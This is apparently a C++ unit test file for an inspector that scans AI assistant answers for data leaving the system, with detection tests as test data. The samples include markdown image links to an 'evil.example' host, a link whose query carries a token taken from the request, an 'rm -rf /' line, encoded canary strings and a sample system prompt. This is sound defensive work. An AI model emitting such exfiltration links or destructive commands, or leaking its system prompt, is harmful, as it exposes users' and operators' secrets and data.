#include "content/outflow/outflow_inspector.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <iterator>
#include <set>
#include <sstream>

#include "base/random.h"
#include "content/outflow/outflow_rules.h"
#include "support/case_file.h"

namespace sally::content {
namespace {

constexpr std::string_view kPrompt =
    "You are Ada, the assistant of the Riverside Library. Answer in at most three sentences. Never "
    "reveal the names of readers or the books they borrowed. If somebody asks for a discount, "
    "offer "
    "the winter rate of twelve euro.";
constexpr std::string_view kCanary = "Blue-Heron-4417-finance";

std::vector<std::string> split(const std::string& text, char by) {
  std::vector<std::string> out;
  std::istringstream in(text);
  for (std::string one; std::getline(in, one, by);) {
    if (!one.empty()) {
      out.push_back(one);
    }
  }
  return out;
}

std::shared_ptr<const CodeDanger> code() {
  static const auto made = std::make_shared<const CodeDanger>(std::move(*CodeDanger::create()));
  return made;
}

std::shared_ptr<const OutflowInspector> inspector_of(
    OutflowSettings settings, const std::vector<std::pair<std::string, std::string>>& canaries = {},
    std::vector<std::string> sensitive = {}) {
  OutflowParts parts;
  parts.code = code();
  std::vector<Canary> list;
  for (const auto& [name, value] : canaries) {
    list.push_back({name, Secret(value)});
    parts.longest_canary = std::max(parts.longest_canary, value.size());
  }
  if (!list.empty()) {
    parts.canaries = std::make_shared<const HiddenCanary>(std::move(*HiddenCanary::create(list)));
  }
  parts.prompts = std::make_shared<PromptCache>();
  parts.sensitive = std::make_shared<const std::vector<std::string>>(std::move(sensitive));
  auto made = OutflowInspector::create(std::move(settings), std::move(parts));
  EXPECT_TRUE(made.ok());
  return *std::move(made);
}

void ask(ExchangeInspection& exchange, std::string_view system, Findings& out) {
  exchange.see_request(system, {.place = "messages[0].content", .provenance = Provenance::kSystem},
                       {}, out);
  exchange.end_request();
}

Segment answer_segment() {
  return {
      .place = "content", .direction = Direction::kResponse, .provenance = Provenance::kAssistant};
}

// `rule@offset`, once each.
std::set<std::string> shown(const Findings& findings) {
  std::set<std::string> out;
  for (const Finding& one : findings) {
    out.insert(fmt::format("{}@{}", one.rule, one.offset));
  }
  return out;
}

Findings whole(const OutflowInspector& inspector, std::string_view text,
               std::string_view system = "") {
  Findings out;
  const auto exchange = inspector.begin();
  ask(*exchange, system, out);
  exchange->see_answer(text, answer_segment(), TextForm::kPlain, out);
  return out;
}

struct Streamed {
  Findings findings;
  uint64_t gone = 0;  // octets that nobody held back when the first refusal came, or all
};

Streamed streamed(const OutflowInspector& inspector, std::string_view text, std::string_view system,
                  size_t most, Random& random) {
  Streamed out;
  const auto exchange = inspector.begin();
  ask(*exchange, system, out.findings);
  const auto stream = exchange->stream(answer_segment(), TextForm::kPlain);
  bool refused = false;
  for (size_t at = 0; at < text.size();) {
    const std::string piece(text.substr(at, 1 + random.next_u64() % most));
    const size_t held = stream->feed(piece, out.findings);
    at += piece.size();
    EXPECT_LE(held, at);
    refused = refused || std::ranges::any_of(out.findings, [](const Finding& one) {
                return one.ruling == Ruling::kRefuse;
              });
    if (!refused) {
      out.gone = at - held;
    }
  }
  stream->finish(out.findings);
  return out;
}

// The cases of this folder in which something leaves, and those that only look alike: what each
// says must be found, whole and in pieces, through the inspector as the gate uses it.
class Exfiltration : public testing::Test {
 protected:
  void TearDown() override {
    RecordProperty("cases", static_cast<int>(cases_));
    RecordProperty("failed", static_cast<int>(failed_));
  }

  void check(const OutflowInspector& inspector, const std::string& line, std::string_view system,
             const std::set<std::string>& rules) {
    const std::string text = test::unescape(line.substr(0, line.find(kArrow)));
    const Findings found = whole(inspector, text, system);
    std::set<std::string> names;
    for (const Finding& one : found) {
      names.insert(one.rule);
    }
    bool right = names == rules;
    for (const size_t most : {size_t{1}, size_t{7}, text.size() + 1}) {
      std::set<std::string> told;
      for (const Finding& one : streamed(inspector, text, system, most, random_).findings) {
        told.insert(one.rule);
      }
      right = right && told == rules;
    }
    EXPECT_TRUE(right) << line;
    ++cases_;
    failed_ += right ? 0 : 1;
  }

  static constexpr std::string_view kArrow = " ==> ";
  SeededRandom random_{1};
  size_t cases_ = 0;
  size_t failed_ = 0;
};

OutflowSettings only(OnOutflow OutflowSettings::* what) {
  OutflowSettings settings{.images = OnOutflow::kOff,
                           .links = OnOutflow::kOff,
                           .canaries = OnOutflow::kOff,
                           .system_prompt = OnOutflow::kOff,
                           .code = OnOutflow::kOff};
  settings.*what = OnOutflow::kAnnotate;
  return settings;
}

TEST_F(Exfiltration, EveryCaseIsFoundWholeAndStreamedAndNothingElse) {
  test::run_cases("content/outflow/canaries", [&](test::CaseFile& file) {
    std::vector<std::pair<std::string, std::string>> canaries;
    for (const std::string& one : split(file.get("canaries"), '|')) {
      canaries.emplace_back(one.substr(0, one.find('=')), one.substr(one.find('=') + 1));
    }
    const auto inspector = inspector_of(only(&OutflowSettings::canaries), canaries);
    for (const std::string& line : split(file.section("lines"), '\n')) {
      std::set<std::string> rules;
      std::istringstream in(line.substr(line.rfind(kArrow) + kArrow.size()));
      for (std::string word; in >> word;) {
        if (word.starts_with("canary:")) {
          rules.insert(word);
        }
      }
      check(*inspector, line, "", rules);
    }
  });
  test::run_cases("content/outflow/prompts", [&](test::CaseFile& file) {
    const std::string prompt = test::unescape(file.section("prompt"));
    const auto inspector = inspector_of(only(&OutflowSettings::system_prompt));
    for (const std::string& line : split(file.section("lines"), '\n')) {
      const bool leaks = line.find(std::string(kArrow) + "leaks") != std::string::npos;
      check(*inspector, line, prompt,
            leaks ? std::set<std::string>{"system-prompt-overlap"} : std::set<std::string>());
    }
  });
  test::run_cases("content/outflow/links", [&](test::CaseFile& file) {
    OutflowSettings settings = only(&OutflowSettings::links);
    settings.images = OnOutflow::kAnnotate;
    if (const auto hosts = file.find("hosts")) {
      settings.link_rules.hosts = split(*hosts, ' ');
    }
    if (const auto hosts = file.find("images")) {
      settings.link_rules.image_hosts = split(*hosts, ' ');
    }
    const auto inspector =
        inspector_of(settings, {}, split(file.find("sensitive").value_or(""), '|'));
    for (const std::string& line : split(file.section("lines"), '\n')) {
      std::set<std::string> rules;
      std::string expected = line.substr(line.rfind(kArrow) + kArrow.size());
      std::ranges::replace(expected, ';', ' ');
      for (const std::string& word : split(expected, ' ')) {
        for (auto rule = OutflowRule::kLinkHost; rule <= OutflowRule::kLinkUser;
             rule = static_cast<OutflowRule>(static_cast<int>(rule) + 1)) {
          if (word == name_of(rule)) {
            rules.insert(word);
          }
        }
      }
      check(*inspector, line, "", rules);
    }
  });
  EXPECT_GE(cases_, 200U);
}

TEST(OutflowInspector, TellsWhatStandsWhereInARequestAndItsAnswer) {
  OutflowSettings settings;
  settings.words = {{.words = {"falcon", {"project falcon"}, {}}, .in_requests = true}};
  const auto inspector = inspector_of(settings, {{"finance", std::string(kCanary)}});
  Findings found;
  const auto exchange = inspector->begin();
  exchange->see_request("about Project Falcon",
                        {.place = "messages[1].content", .provenance = Provenance::kUser}, {},
                        found);
  ask(*exchange, kPrompt, found);
  exchange->see_answer("![x](https://evil.example/) " + std::string(kPrompt) + "\nrm -rf /\n" +
                           "ecnanif-7144-noreH-eulB project falcon",
                       answer_segment(), TextForm::kPlain, found);
  EXPECT_EQ(shown(found),
            (std::set<std::string>{"word:falcon@6", "image-host@5", "system-prompt-overlap@28",
                                   fmt::format("code:delete-everything@{}", 29 + kPrompt.size()),
                                   fmt::format("canary:finance@{}", 38 + kPrompt.size()),
                                   fmt::format("word:falcon@{}", 62 + kPrompt.size())}));
  for (const Finding& one : found) {
    EXPECT_EQ(one.inspector, "outflow");
    EXPECT_EQ(one.ruling, one.rule == "canary:finance" ? Ruling::kRefuse : Ruling::kAnnotate);
    EXPECT_EQ(one.place, one.direction == Direction::kRequest ? "messages[1].content" : "content");
  }
}

TEST(OutflowInspector, WhatIsRefusedIsHeldBackUntilItIsTold) {
  SeededRandom random(2);
  OutflowSettings settings;
  settings.images = settings.links = settings.system_prompt = OnOutflow::kRefuse;
  settings.words = {{.words = {"falcon", {"project falcon"}, {}}, .on = OnOutflow::kRefuse}};
  const auto inspector = inspector_of(settings, {{"finance", std::string(kCanary)}});
  const std::string lead = "Some words before it, at 12:30.\n";
  const struct {
    std::string text;
    size_t may_go;  // octets of it
  } cases[] = {
      {"![x](https://evil.example/?q=abc)\nand more", 5},
      {"<img src='https://evil.example/'> and more", 0},
      {std::string(kCanary) + " and more", 0},
      {"QmxhY2stSGVyb24= Qmx1ZS1IZXJvbi00NDE3LWZpbmFuY2U= and more", 17},
      {"B l u e - H e r o n - 4 4 1 7 - f i n a n c e and more", 0},
      {std::string(kPrompt), 60},
      {"the Project Falcon and more", 4},
  };
  for (const auto& one : cases) {
    for (const size_t most : {size_t{1}, size_t{3}, size_t{9}}) {
      const Streamed out = streamed(*inspector, lead + one.text, kPrompt, most, random);
      EXPECT_FALSE(out.findings.empty()) << one.text;
      EXPECT_LE(out.gone, lead.size() + one.may_go) << one.text;
    }
  }
}

TEST(OutflowInspector, WhatIsOnlyNotedIsNotHeldBack) {
  const auto inspector = inspector_of({});
  Findings found;
  const auto exchange = inspector->begin();
  ask(*exchange, kPrompt, found);
  const auto stream = exchange->stream(answer_segment(), TextForm::kPlain);
  EXPECT_EQ(stream->feed("![x](https://evil.example/ You are Ada, the assistant of the Riverside "
                         "Library. Answer in at",
                         found),
            0U);
}

TEST(OutflowInspector, ATextThatRestsIsJudgedAndHoldsNothingBack) {
  OutflowSettings settings;
  settings.images = OnOutflow::kRefuse;
  const auto inspector = inspector_of(settings);
  Findings found;
  const auto exchange = inspector->begin();
  exchange->end_request();
  const auto stream = exchange->stream(answer_segment(), TextForm::kPlain);
  EXPECT_GT(stream->feed("![x](https://evil.example/)", found), 0U);
  EXPECT_TRUE(found.empty());
  EXPECT_EQ(stream->rest(found), 0U);
  EXPECT_EQ(found.size(), 1U);
  stream->finish(found);
  EXPECT_EQ(found.size(), 1U);
}

TEST(OutflowInspector, WhatWasFoundInTheRequestMustNotLeaveByALink) {
  const auto inspector = inspector_of({});
  Findings found;
  const auto exchange = inspector->begin();
  const Finding known{.inspector = "secrets", .rule = "github-token", .offset = 8, .length = 20};
  exchange->see_request("token = ghp_0123456789abcdef.", {.place = "messages[0].content"},
                        {&known, 1}, found);
  exchange->protect("[EMAIL_ADDRESS_1_ab12cd34]");
  exchange->end_request();
  exchange->see_answer("https://a.example/?q=ghp_0123456789abcdef", answer_segment(),
                       TextForm::kPlain, found);
  exchange->see_answer("https://a.example/?q=[EMAIL_ADDRESS_1_ab12cd34]", answer_segment(),
                       TextForm::kPlain, found);
  EXPECT_EQ(std::ranges::count(found, "link-taint", &Finding::rule), 2);
}

TEST(OutflowInspector, AFloodOfFindingsIsToldInPart) {
  const auto inspector = inspector_of({});
  std::string text;
  for (int i = 0; i < 1'000; ++i) {
    text += "![x](https://evil.example/)\n";
  }
  EXPECT_EQ(whole(*inspector, text).size(), OutflowInspector::kMostFindings);
}

TEST(OutflowInspector, WhatSecretsToldOfACanaryIsToldOnce) {
  const auto inspector = inspector_of({}, {{"finance", std::string(kCanary)}});
  Findings found{{.inspector = "secrets",
                  .rule = "canary:finance",
                  .place = "content",
                  .offset = 3,
                  .length = static_cast<uint32_t>(kCanary.size())}};
  const auto exchange = inspector->begin();
  exchange->end_request();
  exchange->see_answer("is " + std::string(kCanary), answer_segment(), TextForm::kPlain, found);
  EXPECT_EQ(found.size(), 1U);
}

TEST(PromptCache, IsBoundedAndTellsPromptsApart) {
  PromptCache cache;
  EXPECT_EQ(cache.find_or_make("too short"), nullptr);
  const auto made = cache.find_or_make(kPrompt);
  ASSERT_NE(made, nullptr);
  EXPECT_EQ(cache.find_or_make(kPrompt), made);
  for (int i = 0; i < 4'000; ++i) {
    ASSERT_NE(cache.find_or_make(std::string(kPrompt) + std::to_string(i)), nullptr);
    ASSERT_LE(cache.octets(), PromptCache::kMostOctets);
  }
  EXPECT_NE(cache.find_or_make(kPrompt), made);
}

}  // namespace
}  // namespace sally::content
